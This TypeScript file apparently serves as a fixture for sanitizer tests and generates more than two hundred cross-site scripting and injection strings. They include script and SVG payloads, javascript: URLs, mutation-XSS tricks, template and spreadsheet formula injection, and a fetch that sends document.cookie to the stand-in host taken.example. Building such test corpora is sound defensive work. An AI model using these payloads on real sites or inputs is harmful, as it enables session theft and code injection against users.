/** Runs where any of these texts is taken for markup, an address or a template. The second asks another host. */
const deeds = ['window.taken=1', "fetch('https://taken.example/'+document.cookie)"];

const elements = [
	'img',
	'svg',
	'body',
	'video',
	'input',
	'details',
	'marquee',
	'iframe',
	'object',
	'math'
];
const events = [
	'onerror',
	'onload',
	'onfocus',
	'ontoggle',
	'onstart',
	'onmouseover',
	'onanimationstart'
];

const shapes: readonly ((deed: string) => string)[] = [
	(deed) => `<script>${deed}</script>`,
	(deed) => `</title><script>${deed}</script>`,
	(deed) => `</textarea><ScRiPt>${deed}</sCrIpT>`,
	(deed) => `</style></script><script>${deed}//`,
	(deed) => `--><script>${deed}</script><!--`,
	(deed) => `]]><script>${deed}</script>`,
	(deed) => `<script src=https://taken.example/x.js></script>${deed.slice(0, 0)}`,
	(deed) => `<script type=module>import("data:text/javascript,${deed}")</script>`,
	(deed) => `javascript:${deed}`,
	(deed) => `JaVaScRiPt:${deed}`,
	(deed) => `java\tscript:${deed}`,
	(deed) => `\u0001javascript:${deed}`,
	(deed) => `javascript&colon;${deed}`,
	(deed) => `data:text/html,<script>${deed}</script>`,
	(deed) => `data:image/svg+xml,<svg onload="${deed}"/>`,
	(deed) => `<a href="javascript:${deed}" autofocus onfocus="${deed}">x</a>`,
	(deed) => `[click](javascript:${deed})`,
	(deed) => `![x](https://taken.example/x.png "${deed}")`,
	(deed) => `[x](<javascript:${deed}>)`,
	(deed) => `<javascript:${deed}>`,
	(deed) => `<https://taken.example/#${encodeURIComponent(deed)}>`,
	(deed) => `[x]: javascript:${deed}\n[x]`,
	(deed) => '```html\n<script>' + deed + '</script>\n```',
	(deed) => `<svg><script>${deed}</script></svg>`,
	(deed) => `<svg><animate onbegin="${deed}" attributeName=x dur=1s>`,
	(deed) => `<svg><a xlink:href="javascript:${deed}"><text y=20>x</text></a></svg>`,
	(deed) => `<svg><use href="data:image/svg+xml,<svg id=x onload='${deed}'/>#x">`,
	(deed) => `<svg><foreignObject><iframe srcdoc="<script>${deed}</script>">`,
	(deed) =>
		`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${deed}&gt;">`,
	(deed) => `<noscript><p title="</noscript><img src=x onerror=${deed}>">`,
	(deed) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${deed}>`,
	(deed) => `<table><td><style><a title="</style><img src onerror=${deed}>">`,
	(deed) => `<iframe srcdoc="&lt;script&gt;${deed}&lt;/script&gt;">`,
	(deed) => `<iframe src="javascript:${deed}">`,
	(deed) => `<object data="javascript:${deed}">`,
	(deed) => `<embed src="data:text/html,<script>${deed}</script>">`,
	(deed) => `<meta http-equiv=refresh content="0;url=javascript:${deed}">`,
	(deed) => `<base href="https://taken.example/">${deed.slice(0, 0)}`,
	(deed) => `<link rel=stylesheet href="https://taken.example/x.css" onload="${deed}">`,
	(deed) =>
		`<style>@import "https://taken.example/x.css";*{background:url("javascript:${deed}")}</style>`,
	(deed) => `<div style="background:url(https://taken.example/x)" onclick=${deed}>x</div>`,
	(deed) => `<form action="javascript:${deed}"><button autofocus>x</button></form>`,
	(deed) => `<video><source onerror="${deed}"></video>`,
	(deed) => `<template><script>${deed}</script></template>`,
	(deed) => `&lt;img src=x onerror=${deed}&gt;`,
	(deed) => `&#60;script&#62;${deed}&#60;/script&#62;`,
	(deed) => `\\u003cscript\\u003e${deed}\\u003c/script\\u003e`,
	(deed) => `%3Cscript%3E${encodeURIComponent(deed)}%3C/script%3E`,
	(deed) => `＜script＞${deed}＜/script＞`,
	(deed) => `{{constructor.constructor("${deed}")()}}`,
	(deed) => '${' + deed + '}',
	(deed) => `<%= ${deed} %>`,
	(deed) => `#{${deed}}`,
	(deed) => `{@html "<img src=x onerror=${deed}>"}`,
	(deed) => `";${deed};//`,
	(deed) => `');${deed};//`,
	(deed) => `\u202e>tpircs/<${deed}<script>\u202c${deed}</script>`,
	(deed) => `<scr\u200bipt>${deed}</scr\u200bipt>`,
	(deed) => `<scr\0ipt>${deed}</script>`,
	(deed) => `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${deed}</x:script>`,
	(deed) => `<?xml-stylesheet href="javascript:${deed}"?>`,
	(deed) => `<!ENTITY x SYSTEM "https://taken.example/x">&x;${deed.slice(0, 0)}`,
	(deed) => `=HYPERLINK("https://taken.example/","${deed}")`,
	(deed) => `=cmd|'/c ${deed}'!A1`
];

/** Two hundred texts and more that must stay texts wherever they are shown. */
export const scriptTexts: readonly string[] = [
	...new Set([
		...deeds.flatMap((deed) => shapes.map((shape) => shape(deed))),
		...elements.flatMap((element, at) =>
			events.map((event) => `<${element} src=x href=x tabindex=1 ${event}="${deeds[at % 2]}">`)
		),
		...events.map((event) => `" autofocus ${event}=${deeds[0]} x="`),
		...events.map((event) => `' ${event}='${deeds[1]}`)
	])
];
